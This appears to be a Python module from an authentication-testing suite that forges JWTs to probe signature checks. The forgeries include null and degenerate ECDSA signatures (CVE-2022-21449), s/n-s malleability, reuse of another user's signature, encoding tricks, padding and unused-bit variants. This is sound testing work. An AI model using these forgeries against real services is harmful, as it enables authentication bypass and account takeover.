"""Family `signature`: signatures that are none, and other texts for the same token."""

from collections.abc import Iterator

from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature

from authbench.attacks.compact import Jwt, encoded, parsed
from authbench.attacks.findings import Try
from authbench.attacks.target import Attack, NotApplicable, Target, nobody_else, refused, text_of

FAMILY = "signature"
ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


def null_signatures(target: Target) -> Iterator[Try]:
    """Zeros and what else has passed for one: r = s = 0 in both forms, the group's order, a byte, too much."""
    token = target.jwt
    size = len(token.signature)
    order = P256_ORDER.to_bytes(32, "big")
    stolen = parsed(text_of(target.attacker.credential))
    for sent, signature in (
        ("zeros", bytes(size)),
        ("ones", b"\xff" * size),
        ("r = s = 0, 64 bytes", bytes(64)),
        ("r = s = 0 in DER", encode_dss_signature(0, 0)),
        ("r = s = 1 in DER", encode_dss_signature(1, 1)),
        ("r = s = the group's order", order + order),
        ("r right, s = 0", token.signature[: size // 2] + bytes(size - size // 2)),
        ("one byte", b"\0"),
        ("a byte too many", token.signature + b"\0"),
        ("a byte too few", token.signature[:-1]),
        ("twice", token.signature * 2),
        ("another user's", stolen.signature if stolen else b"x"),
    ):
        yield from target.everywhere(f"signature: {sent}", f"{token.head}.{encoded(signature)}")


def other_signature(target: Target) -> Iterator[Try]:
    """ECDSA has two for each (s and n - s); RFC 7518 takes both: it must be the same user's, and no failure."""
    token = target.jwt
    if token.algorithm != "ES256":
        raise NotApplicable(f"{token.algorithm} signatures have one form")
    s = P256_ORDER - int.from_bytes(token.signature[32:], "big")
    other = f"{token.head}.{encoded(token.signature[:32] + s.to_bytes(32, 'big'))}"
    answer = target.try_text(other)
    yield nobody_else("n - s in place of s", answer, same_user=target.names_victim(answer))


def other_texts(target: Target) -> Iterator[Try]:
    """Not base64url at all: white space, percent signs, other alphabets and characters that look like ours."""
    token = target.jwt
    header, payload, signature = token.text.split(".")
    for sent, text in (
        ("a space before the signature", f"{token.head}. {signature}"),
        ("a space within the payload", f"{header}.{payload[:9]} {payload[9:]}.{signature}"),
        ("a tab within the signature", f"{token.head}.{signature[:9]}\t{signature[9:]}"),
        ("a percent sign", f"{token.head}%2E{signature}"),
        ("a percent-encoded letter", f"%{ord(header[0]):02x}{token.text[1:]}"),
        ("full-width dots", token.text.replace(".", "\uff0e")),
        ("a zero-width space", f"{token.text}\u200b"),
        ("a full-width letter", f"{chr(ord(header[0]) + 0xFEE0)}{token.text[1:]}"),
        ("a no-break space within", f"{token.head}.{signature[:9]}\u00a0{signature[9:]}"),
        ("a byte that is no UTF-8", f"{token.text}\udcff"),
        ("a NUL", f"{token.text}\0"),
        ("a character of no alphabet", f"{token.head}.{signature[:9]}!{signature[9:]}"),
        ("a comma", f"{token.text},"),
    ):
        yield refused(sent, target.try_text(text))
    if target.strategy.carrier != "cookie":  # RFC 6265, 4.1.1 has them around a cookie's value
        yield refused("quotation marks", target.try_text(f'"{token.text}"'))


def padded(target: Target) -> Iterator[Try]:
    """RFC 7515, 2 leaves it out, and libraries take it: two texts, one token. Never another user, no failure."""
    token = target.jwt
    header, payload, signature = token.text.split(".")
    for sent, text in (
        ("= after the signature", f"{token.text}="),
        ("== after the signature", f"{token.text}=="),
        ("= after the payload", f"{header}.{payload}=.{signature}"),
        ("= after the header", f"{header}=.{payload}.{signature}"),
    ):
        answer = target.try_text(text)
        yield nobody_else(sent, answer, same_user=target.names_victim(answer))


def other_last_bits(target: Target) -> Iterator[Try]:
    """Bits that base64url does not use: RFC 4648, 3.5 lets a decoder pass over them. Never another user, no failure."""
    token: Jwt = target.jwt
    spare = (-len(token.signature) * 8) % 6
    if not spare:
        raise NotApplicable("its signature fills its last character")
    last = ALPHABET.index(token.text[-1])
    for bits in range(1, 2**spare):
        answer = target.try_text(token.text[:-1] + ALPHABET[last ^ bits])
        yield nobody_else(
            f"unused bits of the last character set to {bits}", answer, same_user=target.names_victim(answer)
        )


ATTACKS = (
    Attack("null signatures", FAMILY, "CVE-2022-21449; RFC 8725, 3.3 and 3.4", null_signatures),
    Attack("the other ECDSA signature", FAMILY, "RFC 7518, 3.4", other_signature),
    Attack("other texts for the token", FAMILY, "RFC 7515, 2 and 5.2; RFC 8725, 3.7", other_texts),
    Attack("padding", FAMILY, "RFC 7515, 2; RFC 4648, 3.2", padded),
    Attack("unused bits", FAMILY, "RFC 4648, 3.5", other_last_bits),
)
